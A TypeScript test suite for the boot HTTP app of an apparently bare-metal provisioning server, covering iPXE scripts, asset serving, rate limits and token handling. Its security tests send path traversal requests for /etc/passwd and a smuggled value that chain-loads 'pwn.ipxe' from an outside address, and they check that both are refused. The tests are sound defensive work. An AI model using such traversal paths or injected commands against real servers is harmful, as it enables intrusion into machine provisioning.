import { test, describe, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { mkdtempSync, writeFileSync, symlinkSync, mkdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createHash, randomBytes } from 'node:crypto'
import { buildBootApp } from './boot-app.ts'
import { BootAssets } from '../boot/assets.ts'
import { FileCache } from '../boot/file-cache.ts'
import { createLogger } from '../log/logger.ts'
import { makeInventory, makeProvisioning } from '../../test/helpers/inventory.ts'
import { MachineService } from '../inventory/machine-service.ts'
import { TokenBucket } from '../lib/rate-limit.ts'
import { assertGolden } from '../../test/helpers/golden.ts'

const GOLDEN = join(import.meta.dirname, '../../test/fixtures/ipxe')
const BASE = 'http://10.77.0.1:8080'

describe('boot app', () => {
  const root = mkdtempSync(join(tmpdir(), 'anvil-assets-'))
  const outside = mkdtempSync(join(tmpdir(), 'anvil-outside-'))
  const payload = randomBytes(3 * 1024 * 1024 + 17)
  const inv = makeInventory()
  const prov = makeProvisioning(inv)
  const app = buildBootApp({ machines: inv.machines, lifecycle: prov.lifecycle, assets: new BootAssets(root), events: inv.timeline, baseUrl: () => BASE, capabilities: { recheckSeconds: 30 }, log: createLogger('silent') })

  before(() => {
    writeFileSync(join(root, 'snponly.efi'), payload)
    mkdirSync(join(root, 'sub'))
    writeFileSync(join(root, 'sub', 'x.bin'), 'x')
    writeFileSync(join(outside, 'secret'), 'secret')
    symlinkSync(join(outside, 'secret'), join(root, 'escape'))
  })
  after(async () => {
    await app.close()
    rmSync(root, { recursive: true, force: true })
    rmSync(outside, { recursive: true, force: true })
  })

  test('without identity, /boot.ipxe returns the chain script that reports it', async () => {
    const res = await app.inject({ url: '/boot.ipxe' })
    assert.equal(res.statusCode, 200)
    assert.match(res.headers['content-type'] as string, /^text\/plain/)
    assertGolden(res.body, join(GOLDEN, 'chain.ipxe'))
    assert.match(res.body, /\$\{net0\/mac\}/)
  })

  test('with identity, it records the machine and returns its wait script', async () => {
    const url = '/boot.ipxe?uuid=8C1F0A5E-77A0-4A0B-9D41-000000000001&mac=52:54:00:77:00:11&serial=LAB0001&manufacturer=Anvil%20Lab&product=VM&platform=efi&buildarch=x86_64'
    const res = await app.inject({ url, remoteAddress: '10.77.0.101' })
    assert.equal(res.statusCode, 200)
    const [machine] = await inv.machines.list()
    assert.ok(machine)
    assert.equal(machine.uuid, '8c1f0a5e-77a0-4a0b-9d41-000000000001')
    assert.equal(machine.serial, 'LAB0001')
    assert.equal(machine.firmware, 'efi')
    assert.equal(machine.ip, '10.77.0.101')
    assertGolden(res.body.replaceAll(machine.id, 'm-ID'), join(GOLDEN, 'discovered-wait.ipxe'))
    const types = (await inv.machines.events(machine.id)).map(e => e.type)
    assert.deepEqual(types.slice(-2), ['machine.discovered', 'http.script'])
    // A reboot is the same machine.
    await app.inject({ url, remoteAddress: '10.77.0.101' })
    assert.equal((await inv.machines.list()).length, 1)
  })

  test('with the discovery environment built, a discovered machine gets the bootenv script with a fresh token', async () => {
    const tokens: string[] = []
    const withAgent = buildBootApp({
      machines: inv.machines,
      lifecycle: prov.lifecycle,
      assets: new BootAssets(root),
      events: inv.timeline,
      baseUrl: () => BASE,
      capabilities: { recheckSeconds: 30 },
      agent: {
        available: async () => true,
        prepare: async (machineId) => {
          tokens.push(`token-${tokens.length + 1}-${machineId}`)
          return { grpc: '10.77.0.1:8443', token: tokens.at(-1) as string, fingerprint: 'ab'.repeat(32) }
        }
      },
      log: createLogger('silent')
    })
    try {
      const url = '/boot.ipxe?uuid=8C1F0A5E-77A0-4A0B-9D41-000000000002&mac=52:54:00:77:00:12&serial=LAB0002&platform=pcbios&buildarch=i386'
      const res = await withAgent.inject({ url, remoteAddress: '10.77.0.102' })
      const machine = (await inv.machines.list()).find(m => m.serial === 'LAB0002')
      assert.ok(machine)
      assertGolden(res.body.replaceAll(machine.id, 'm-ID'), join(GOLDEN, 'discovered-bootenv.ipxe'))
      const again = await withAgent.inject({ url, remoteAddress: '10.77.0.102' })
      assert.equal(tokens.length, 2, 'each boot gets its own token')
      assert.ok(again.body.includes(`anvil.token=${tokens[1] as string}`))
      const events = await inv.machines.events(machine.id)
      assert.match(events.at(-1)?.message ?? '', /served the bootenv script/)
      assert.ok(!JSON.stringify(events).includes(tokens[0] as string), 'tokens stay out of the timeline')
      // A rejected machine boots its disk, bootenv or not.
      await prov.discovery.reject(machine.id)
      assert.match((await withAgent.inject({ url })).body, /\nexit\n/)
      assert.equal(tokens.length, 2)
    } finally {
      await withAgent.close()
    }
  })

  test('a bad MAC is a 400 with a stable code', async () => {
    const res = await app.inject({ url: '/boot.ipxe?mac=nonsense' })
    assert.equal(res.statusCode, 400)
    assert.equal(res.json().error.code, 'ERR_INVALID_MAC')
  })

  const cachedApp = buildBootApp({ machines: inv.machines, lifecycle: prov.lifecycle, assets: new BootAssets(root), events: inv.timeline, baseUrl: () => BASE, capabilities: { recheckSeconds: 30 }, cache: new FileCache({ maxFileBytes: 8 << 20, maxBytes: 16 << 20 }), log: createLogger('silent') })
  after(async () => { await cachedApp.close() })

  for (const [label, which] of [['streamed from disk', app], ['from the memory cache', cachedApp]] as const) {
    test(`assets (${label}) are served whole, by range, and with ETag revalidation`, async () => {
      await assetChecks(which)
    })
  }

  async function assetChecks (app: ReturnType<typeof buildBootApp>): Promise<void> {
    const whole = await app.inject({ url: '/assets/snponly.efi' })
    assert.equal(whole.statusCode, 200)
    assert.equal(whole.rawPayload.length, payload.length)
    assert.equal(createHash('sha256').update(whole.rawPayload).digest('hex'), createHash('sha256').update(payload).digest('hex'))
    const etag = whole.headers.etag as string
    assert.ok(etag)
    const part = await app.inject({ url: '/assets/snponly.efi', headers: { range: 'bytes=100-199' } })
    assert.equal(part.statusCode, 206)
    assert.equal(part.headers['content-range'], `bytes 100-199/${payload.length}`)
    assert.deepEqual(part.rawPayload, payload.subarray(100, 200))
    const tail = await app.inject({ url: '/assets/snponly.efi', headers: { range: 'bytes=-10' } })
    assert.deepEqual(tail.rawPayload, payload.subarray(payload.length - 10))
    const beyond = await app.inject({ url: '/assets/snponly.efi', headers: { range: `bytes=${payload.length}-` } })
    assert.equal(beyond.statusCode, 416)
    const cached = await app.inject({ url: '/assets/snponly.efi', headers: { 'if-none-match': etag } })
    assert.equal(cached.statusCode, 304)
    const stale = await app.inject({ url: '/assets/snponly.efi', headers: { range: 'bytes=0-9', 'if-range': '"other"' } })
    assert.equal(stale.statusCode, 200)
    const head = await app.inject({ method: 'HEAD', url: '/assets/snponly.efi' })
    assert.equal(head.statusCode, 200)
    assert.equal(Number(head.headers['content-length']), payload.length)
    assert.equal(head.rawPayload.length, 0)
    assert.equal((await app.inject({ url: '/assets/sub/x.bin' })).body, 'x')
  }

  test('paths that leave the boot assets are refused', async () => {
    for (const url of ['/assets/../etc/passwd', '/assets/%2e%2e/%2e%2e/etc/passwd', '/assets/sub/../../x', '/assets/escape', '/assets//etc/passwd']) {
      const res = await app.inject({ url })
      assert.ok([403, 404].includes(res.statusCode), `${url} gave ${res.statusCode}`)
      assert.ok(!res.body.includes('secret') && !res.body.includes('root:'), url)
    }
    assert.equal((await app.inject({ url: '/assets/escape' })).json().error.code, 'ERR_PATH_TRAVERSAL')
    assert.equal((await app.inject({ url: '/assets/missing.efi' })).json().error.code, 'ERR_ASSET_NOT_FOUND')
  })

  test('no text from an agent, a URL parameter or the inventory reaches a script, in any state', async () => {
    const evil = 'x ; chain http://192.0.2.66/pwn.ipxe ; echo'
    const q = new URLSearchParams({ mac: '52:54:00:77:00:66', uuid: evil, serial: evil, manufacturer: evil, product: evil, platform: evil, buildarch: evil })
    const url = `/boot.ipxe?${q.toString()}`
    const first = await app.inject({ url, remoteAddress: '10.77.0.166' })
    assert.equal(first.statusCode, 200)
    const machine = (await inv.machines.list()).find(m => m.macs.includes('52:54:00:77:00:66'))
    assert.ok(machine)
    await prov.discovery.accept(machine.id)
    const task = await prov.discovery.wipe(machine.id, { method: 'fast', disks: [] })
    // The agent's error becomes the state reason (error state): the next script must not carry it.
    await prov.lifecycle.apply(machine.id, { type: 'wipeFailed', taskId: task.id, error: evil })
    assert.ok((await inv.machines.get(machine.id)).stateReason?.includes('192.0.2.66'))
    const bodies = [first.body, (await app.inject({ url, remoteAddress: '10.77.0.166' })).body]
    await prov.discovery.maintenance(machine.id, true)
    bodies.push((await app.inject({ url, remoteAddress: '10.77.0.166' })).body)
    for (const body of bodies) {
      assert.ok(!body.includes('192.0.2.66'), body)
      assert.ok(!body.split('\n').some(l => l.startsWith('echo') && /;|&&|\|\|/.test(l)), body)
    }
  })

  test('a machine held back by the new-machine limit gets a 200 script that waits and asks again', async () => {
    const limited = makeInventory()
    const machines = new MachineService({ store: limited.store, timeline: limited.timeline, clock: limited.clock, newMachines: new TokenBucket(1) })
    const busyApp = buildBootApp({ machines, lifecycle: makeProvisioning(limited).lifecycle, assets: new BootAssets(root), events: limited.timeline, baseUrl: () => BASE, capabilities: { recheckSeconds: 30 }, log: createLogger('silent') })
    try {
      assert.equal((await busyApp.inject({ url: '/boot.ipxe?mac=52:54:00:00:03:01' })).statusCode, 200)
      const held = await busyApp.inject({ url: '/boot.ipxe?mac=52:54:00:00:03:02' })
      assert.equal(held.statusCode, 200)
      assert.match(held.body, /^#!ipxe\necho Anvil: this server is taking on too many new machines at once, so this machine waits\nsleep \d+\nchain --autofree --replace http:\/\/10\.77\.0\.1:8080\/boot\.ipxe\?/)
      assert.equal((await machines.list()).length, 1)
    } finally {
      await busyApp.close()
    }
  })

  test('a script request in a machine\'s name from another address than DHCP gave it gets no token', async () => {
    const seen = new Map([['52:54:00:77:00:77', '10.77.0.177']])
    const tokens: string[] = []
    const guarded = buildBootApp({
      machines: inv.machines,
      lifecycle: prov.lifecycle,
      assets: new BootAssets(root),
      events: inv.timeline,
      baseUrl: () => BASE,
      capabilities: { recheckSeconds: 30 },
      addressOf: (mac) => seen.get(mac),
      agent: { available: async () => true, prepare: async () => { tokens.push('t'); return { grpc: '10.77.0.1:8443', token: `tok${tokens.length}`, fingerprint: 'ab'.repeat(32) } } },
      log: createLogger('silent')
    })
    try {
      const url = '/boot.ipxe?mac=52:54:00:77:00:77'
      const impostor = await guarded.inject({ url, remoteAddress: '10.77.0.66' })
      assert.ok(!impostor.body.includes('anvil.token='), impostor.body)
      assert.match(impostor.body, /did not come from the address DHCP gave this machine/)
      assert.equal(tokens.length, 0, 'no token was minted')
      const machine = await inv.machines.get('52:54:00:77:00:77')
      assert.ok((await inv.machines.events(machine.id)).some(e => e.type === 'http.refused' && e.message.includes('10.77.0.66')))
      const real = await guarded.inject({ url, remoteAddress: '10.77.0.177' })
      assert.match(real.body, /anvil\.token=tok1/)
    } finally {
      await guarded.close()
    }
  })
})
